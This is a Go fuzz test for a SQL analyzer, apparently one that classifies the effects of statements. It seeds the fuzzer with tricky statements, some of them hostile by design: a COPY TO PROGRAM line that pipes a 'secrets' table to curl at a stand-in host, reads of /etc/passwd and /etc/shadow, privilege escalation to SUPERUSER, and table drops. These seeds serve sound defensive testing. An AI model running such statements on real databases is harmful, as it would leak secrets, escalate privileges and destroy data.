package sqlcheck_test

import (
	"strings"
	"testing"
	"time"

	"github.com/gatehouse/gatehouse/internal/analysis"
	"github.com/gatehouse/gatehouse/internal/sqlcheck"
)

// sqlFuzzSeeds are tricky statements: CTEs, DO blocks, COPY, several
// statements in one string, comments and dollar quotes. The corpus the
// fuzzer found is in testdata/fuzz/FuzzParseSQL.
var sqlFuzzSeeds = []string{
	"SELECT 1",
	"select * from users where id = 5 for update",
	"WITH d AS (DELETE FROM logs RETURNING *) SELECT count(*) FROM d",
	"WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 10) SELECT * FROM t",
	"WITH a AS (UPDATE t SET x = 1 RETURNING id), b AS (INSERT INTO u SELECT id FROM a RETURNING id) SELECT * FROM b",
	"DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
	"DO LANGUAGE plpgsql $body$ DECLARE r record; BEGIN PERFORM pg_sleep(1); END $body$",
	"COPY users TO '/tmp/users.csv' WITH (FORMAT csv)",
	"COPY (SELECT * FROM secrets) TO PROGRAM 'curl -d @- https://x.example'",
	"COPY t FROM STDIN; \\.",
	"\\copy t to 'f.csv'",
	"BEGIN; DELETE FROM a; UPDATE b SET c = 1 WHERE 1=1; COMMIT;",
	"SELECT 1; SELECT 2;; ;SELECT 3",
	"/* block /* nested */ comment */ DELETE FROM t -- trailing\n WHERE id = 1",
	"-- only a comment",
	"SELECT $tag$ it's ; DROP TABLE x; $tag$, $$;$$",
	"SELECT E'\\x41\\'', U&'\\0041', B'1010', X'ff'",
	"CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu SECURITY DEFINER AS $$ import os $$",
	"CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$; CALL p()",
	"ALTER SYSTEM SET shared_preload_libraries = 'evil'",
	"SET ROLE postgres; RESET ROLE; SET SESSION AUTHORIZATION DEFAULT",
	"GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC",
	"ALTER ROLE app WITH SUPERUSER BYPASSRLS PASSWORD 'x'",
	"SELECT pg_read_file('/etc/passwd'), lo_import('/etc/shadow'), dblink_exec('host=x', 'drop table t')",
	"EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t WHERE true OR id = 1",
	"MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
	"PREPARE p AS DELETE FROM t; EXECUTE p; DEALLOCATE p",
	"CREATE TABLE t2 AS SELECT * FROM t; DROP TABLE t CASCADE; TRUNCATE t2",
	"SELECT " + strings.Repeat("(", 200) + "1" + strings.Repeat(")", 200),
	"SELECT * FROM t WHERE " + strings.Repeat("NOT ", 100) + "false",
	"",
	"SELEC 1",
	"\xff\xfe",
	"SELECT 'a\x00b'",
}

func FuzzParseSQL(f *testing.F) {
	for _, s := range sqlFuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, sql string) {
		start := time.Now()
		units := sqlcheck.Analyze(sql)
		if d := time.Since(start); len(sql) < 64<<10 && d > 2*time.Second {
			t.Fatalf("Analyze took %v for %d bytes", d, len(sql))
		}
		if len(units) == 0 {
			t.Fatalf("Analyze(%q) returned no unit", sql)
		}
		for i, u := range units {
			if u.Kind != analysis.KindSQL {
				t.Fatalf("Analyze(%q): unit %d has kind %v, want %v", sql, i, u.Kind, analysis.KindSQL)
			}
			if u.Effects == 0 {
				t.Fatalf("Analyze(%q): unit %d (%s) has no effects", sql, i, u.Statement)
			}
			for _, fd := range u.Findings {
				if fd.Kind.Opaque() && !u.Opaque() {
					t.Fatalf("Analyze(%q): unit %d has the opaque finding %q but effects %v", sql, i, fd.Kind, u.Effects)
				}
			}
		}

		// Analyze is Parse, with a parse error turned into one opaque unit.
		stmts, err := sqlcheck.Parse(sql)
		if err != nil {
			if len(units) != 1 || !units[0].Opaque() ||
				!(units[0].HasFinding(analysis.FindingUnparsable) || units[0].HasFinding(analysis.FindingBoundExceeded)) {
				t.Fatalf("Parse(%q) failed (%v) but Analyze did not return one opaque unit: %+v", sql, err, units)
			}
			return
		}
		if len(stmts) != len(units) {
			t.Fatalf("Parse(%q) = %d statements, Analyze = %d units", sql, len(stmts), len(units))
		}
		for i, st := range stmts {
			if st.Type == "" || st.Class == "" {
				t.Fatalf("Parse(%q): statement %d has type %q and class %q", sql, i, st.Type, st.Class)
			}
			if units[i].Statement != st.Type {
				t.Fatalf("Parse(%q): statement %d is %q but its unit says %q", sql, i, st.Type, units[i].Statement)
			}
		}
	})
}
